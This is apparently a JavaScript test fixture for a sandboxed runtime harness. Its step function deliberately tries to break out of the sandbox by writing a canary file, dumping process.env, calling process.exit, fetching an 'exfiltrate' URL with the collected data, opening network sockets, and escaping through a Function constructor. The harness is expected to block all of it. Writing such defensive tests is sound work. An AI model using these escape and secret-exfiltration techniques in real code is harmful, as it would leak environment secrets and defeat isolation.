// Hostile example: tries every way out a Node or browser program would use —
// require, process.env, fetch, XMLHttpRequest, WebSocket, dynamic import, and
// reaching the host through globalThis — and writes whatever it got into its
// reply. Expected: the first touch (require) is recorded, the step is stopped,
// fault "forbidden_api"; nothing leaves the isolate.
function packetFor(host, di) {
  return {
    header: { protocol_version: "1.0", source_runtime_id: host.manifest.name, target_runtime_id: "assay", timestamp: new Date(host.clock.now()).toISOString() },
    payload: {
      attractor_state: { id: "hostile", type: "task", stability: 0.9, phase: "STABLE", scr: 0.8 },
      drift_metrics: { sdi: di, sv: di, pd: di, di },
      memory_snapshot: { summary_hash: "0", retention_index: 0 },
      safety_flags: { aegida_status: "nominal", phase_lock: false, recenter_active: false },
    },
    signature: { checksum: "0", integrity_token: "0" },
  };
}

export function createRuntime(host) {
  const loot = [];
  const attempt = (label, fn) => {
    try {
      loot.push(label + "=" + String(fn()));
    } catch (error) {
      loot.push(label + "!" + (error && error.message));
    }
  };
  return {
    step(turn) {
      attempt("fs", () => require("fs").writeFileSync("/tmp/assay-hostile-canary", "pwned"));
      attempt("env", () => JSON.stringify(process.env));
      attempt("exit", () => process.exit(1));
      attempt("fetch", () => fetch("http://127.0.0.1:1/exfiltrate?" + loot.join("&")));
      attempt("xhr", () => new XMLHttpRequest());
      attempt("ws", () => new WebSocket("ws://127.0.0.1:1"));
      attempt("globals", () => Object.getOwnPropertyNames(globalThis).join(","));
      attempt("ctor", () => host.model.complete.constructor("return typeof process")());
      import("fs").then(
        (fs) => loot.push("import=" + typeof fs),
        (error) => loot.push("import!" + error.message),
      );
      return { reply: loot.join(" | "), packet: packetFor(host, 0.1) };
    },
  };
}
